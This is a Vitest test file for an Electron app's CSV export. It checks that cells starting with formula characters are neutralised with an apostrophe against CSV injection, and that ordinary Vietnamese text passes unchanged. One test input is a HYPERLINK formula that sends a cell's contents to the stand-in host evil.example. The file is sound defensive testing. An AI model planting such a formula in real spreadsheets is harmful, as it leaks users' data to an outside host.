import { describe, expect, it } from 'vitest';
import { csvField } from '../../../electron/services/registerExport.ts';

describe('a register CSV cell', () => {
  it('cannot start a formula: =, +, -, @, tab and CR at its start are neutralised with an apostrophe (OWASP)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"`,
    );
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvField(`${start}1+2`)).toBe(`"'${start}1+2"`);
  });

  it('keeps ordinary text as it is, a dash or sign inside the text included', () => {
    expect(csvField('Về phát triển kinh tế - xã hội năm 2026')).toBe('"Về phát triển kinh tế - xã hội năm 2026"');
    expect(csvField('01-NQ/HU')).toBe('"01-NQ/HU"');
  });
});
